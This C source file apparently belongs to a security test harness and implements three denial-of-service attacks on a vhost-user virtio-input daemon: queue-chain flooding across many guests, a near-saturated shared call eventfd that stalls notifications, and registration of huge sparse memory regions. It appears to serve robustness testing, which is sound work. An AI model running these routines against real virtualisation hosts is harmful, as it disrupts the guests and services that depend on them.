/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A VMM and the driver of a virtio-input device, which share memory and queues that nobody has a
 * reason for. The status queue (LEDs) is the one that a driver fills by itself.
 */
#include "attack.h"

#include <fcntl.h>
#include <linux/virtio_config.h>
#include <linux/virtio_ring.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include "vhost_user.h"

#define PAGE 4096u
#define REGIONS 64
#define REGION_GAP UINT64_C(0x100000)
#define QUEUES_SIZE (16 * PAGE) /* of the last region, which has the queue */
#define STATUS_QUEUE 1
#define QUEUE_SIZE 256
#define PIECES 16
#define PIECE_SIZE 8

#define DESCRIPTORS_AT 0
#define AVAILABLE_AT (2 * PAGE)
#define USED_AT (4 * PAGE)
#define BUFFERS_AT (6 * PAGE)

#define ROUND_MS 20 /* no longer for the daemon to take what was offered */
/* At least; on a machine that has no time for the daemon, as many as that takes: whoever waits for
 * the worst ends it when it does not come. */
#define ROUNDS 20

struct guest {
	int socket;
	int memory;
	uint8_t *queues; /* the last region */
	uint64_t queues_address; /* for the guest and its VMM alike */
	int kick, call;
	uint16_t offered;
};

static void say(const struct guest *guest, uint32_t request, const void *payload, uint32_t size,
	int fd)
{
	struct {
		struct vhost_user_header header;
		uint8_t payload[64];
	} __attribute__((packed)) message = {.header = {request, VHOST_USER_VERSION, size}};

	memcpy(message.payload, payload, size);
	if (!attack_send(guest->socket, &message, sizeof(message.header) + size, &fd,
		    fd >= 0 ? 1 : 0))
		attack_fail("vhost-user");
}

static void add_region(const struct guest *guest, uint64_t address, uint64_t size, uint64_t offset)
{
	const struct {
		uint64_t padding;
		struct vhost_user_memory_region region;
	} __attribute__((packed)) add = {0, {address, size, address, offset}};

	say(guest, VHOST_USER_ADD_MEM_REG, &add, sizeof(add), guest->memory);
}

/* 64 regions, the last with the queue in it. */
static void share_memory(struct guest *guest)
{
	guest->memory = memfd_create("guest", MFD_CLOEXEC);
	if (guest->memory < 0 || ftruncate(guest->memory, REGIONS * PAGE + QUEUES_SIZE) < 0)
		attack_fail("memfd");
	guest->queues = mmap(NULL, QUEUES_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, guest->memory,
		REGIONS * PAGE);
	if (guest->queues == MAP_FAILED)
		attack_fail("mmap");
	for (uint64_t i = 1; i < REGIONS; i++)
		add_region(guest, i * REGION_GAP, PAGE, i * PAGE);
	guest->queues_address = REGIONS * REGION_GAP;
	add_region(guest, guest->queues_address, QUEUES_SIZE, REGIONS * PAGE);
}

/* Each chain is made of the same descriptors, so the whole queue is one chain after another. */
static void fill_queue(const struct guest *guest)
{
	struct vring_desc *descriptors = (struct vring_desc *)(guest->queues + DESCRIPTORS_AT);
	uint16_t *available = (uint16_t *)(guest->queues + AVAILABLE_AT);

	for (uint16_t i = 0; i < PIECES; i++)
		descriptors[i] = (struct vring_desc){
			.addr = guest->queues_address + BUFFERS_AT + (uint64_t)i * PAGE / 4,
			.len = PIECE_SIZE,
			.flags = i + 1 < PIECES ? VRING_DESC_F_NEXT : 0,
			.next = (uint16_t)(i + 1),
		};
	memset(available + 2, 0, QUEUE_SIZE * sizeof(*available));
}

static void start_queue(const struct guest *guest)
{
	const struct vhost_user_vring_state size = {STATUS_QUEUE, QUEUE_SIZE},
					    base = {STATUS_QUEUE, 0};
	const struct vhost_user_vring_address address = {STATUS_QUEUE, 0,
		guest->queues_address + DESCRIPTORS_AT, guest->queues_address + USED_AT,
		guest->queues_address + AVAILABLE_AT, 0};
	const uint64_t queue = STATUS_QUEUE;

	say(guest, VHOST_USER_SET_VRING_NUM, &size, sizeof(size), -1);
	say(guest, VHOST_USER_SET_VRING_BASE, &base, sizeof(base), -1);
	say(guest, VHOST_USER_SET_VRING_ADDR, &address, sizeof(address), -1);
	say(guest, VHOST_USER_SET_VRING_CALL, &queue, sizeof(queue), guest->call);
	say(guest, VHOST_USER_SET_VRING_KICK, &queue, sizeof(queue), guest->kick);
}

static void guest_start(struct guest *guest, const char *path)
{
	const uint64_t features = UINT64_C(1) << VIRTIO_F_VERSION_1;

	guest->offered = 0;
	guest->socket = attack_connect(path);
	guest->kick = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
	guest->call = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
	if (guest->socket < 0 || guest->kick < 0 || guest->call < 0)
		attack_fail(path);
	say(guest, VHOST_USER_SET_FEATURES, &features, sizeof(features), -1);
	share_memory(guest);
	fill_queue(guest);
	start_queue(guest);
}

static uint16_t used_index(const struct guest *guest)
{
	return __atomic_load_n((const uint16_t *)(guest->queues + USED_AT) + 1, __ATOMIC_ACQUIRE);
}

/* So many chains more. */
static void offer(struct guest *guest, uint16_t count)
{
	guest->offered = (uint16_t)(guest->offered + count);
	__atomic_store_n((uint16_t *)(guest->queues + AVAILABLE_AT) + 1, guest->offered,
		__ATOMIC_RELEASE);
	eventfd_write(guest->kick, 1);
}

/* Whether the daemon took them in time. */
static bool await_used(const struct guest *guest)
{
	for (int i = 0; i < ROUND_MS; i++) {
		if (used_index(guest) == guest->offered)
			return true;
		poll(NULL, 0, 1);
	}
	return false;
}

void attack_chains(char **arguments)
{
	enum { GUESTS_MAX = 32 };
	struct guest guests[GUESTS_MAX];
	size_t count = 0;
	uint64_t used = 0;
	bool done = false;

	while (count < GUESTS_MAX && arguments[count]) {
		guest_start(&guests[count], arguments[count]);
		count++;
	}
	for (unsigned int round = 1;; round++) {
		for (size_t i = 0; i < count; i++)
			if (used_index(&guests[i]) == guests[i].offered)
				offer(&guests[i], QUEUE_SIZE);
		for (size_t i = 0; i < count; i++)
			used += await_used(&guests[i]);
		/* Otherwise it was none. */
		if (done || round < ROUNDS || used < ROUNDS)
			continue;
		attack_done();
		done = true;
	}
}

void attack_call(char **arguments)
{
	struct guest guest;
	unsigned int used = 0;
	bool done = false;

	guest_start(&guest, arguments[0]);
	/* The open file is shared: so is what is said of it here. */
	if (fcntl(guest.call, F_SETFL, 0) < 0 ||
		eventfd_write(guest.call, UINT64_C(0xfffffffffffffffe)) < 0)
		attack_fail("eventfd");
	for (unsigned int round = 1;; round++) {
		offer(&guest, 1);
		used += await_used(&guest);
		/* A daemon that waits is seen elsewhere; one that uses nothing calls nobody. */
		if (done || round < ROUNDS || used == 0)
			continue;
		attack_done();
		done = true;
	}
}

void attack_sparse(char **arguments)
{
	const uint64_t features = UINT64_C(1) << VIRTIO_F_VERSION_1;
	uint64_t address = 0x1000;
	unsigned int count = 0;

	for (uint64_t size = UINT64_C(1) << 46; size >= UINT64_C(1) << 20; size >>= 1) {
		struct guest guest = {.socket = attack_connect(arguments[0])};

		guest.memory = memfd_create("sparse", MFD_CLOEXEC);
		if (guest.socket < 0 || guest.memory < 0 ||
			ftruncate(guest.memory, (off_t)size) < 0)
			attack_fail(arguments[0]);
		say(&guest, VHOST_USER_SET_FEATURES, &features, sizeof(features), -1);
		/* As often as it is taken: what is not ends the connection. */
		for (count = 0; count < REGIONS; count++) {
			const struct {
				struct vhost_user_header header;
				uint64_t padding;
				struct vhost_user_memory_region region;
			} __attribute__((packed)) add = {
				{VHOST_USER_ADD_MEM_REG, VHOST_USER_VERSION, 40},
				0,
				{address, size, address, 0},
			};

			if (!attack_send(guest.socket, &add, sizeof(add), &guest.memory, 1))
				break;
			address += size;
		}
		address = 0x1000;
		shutdown(guest.socket, SHUT_WR);
		while (recv(guest.socket, &(char){0}, 1, 0) > 0)
			;
		close(guest.socket);
		close(guest.memory);
	}
	attack_done();
	attack_hold();
}
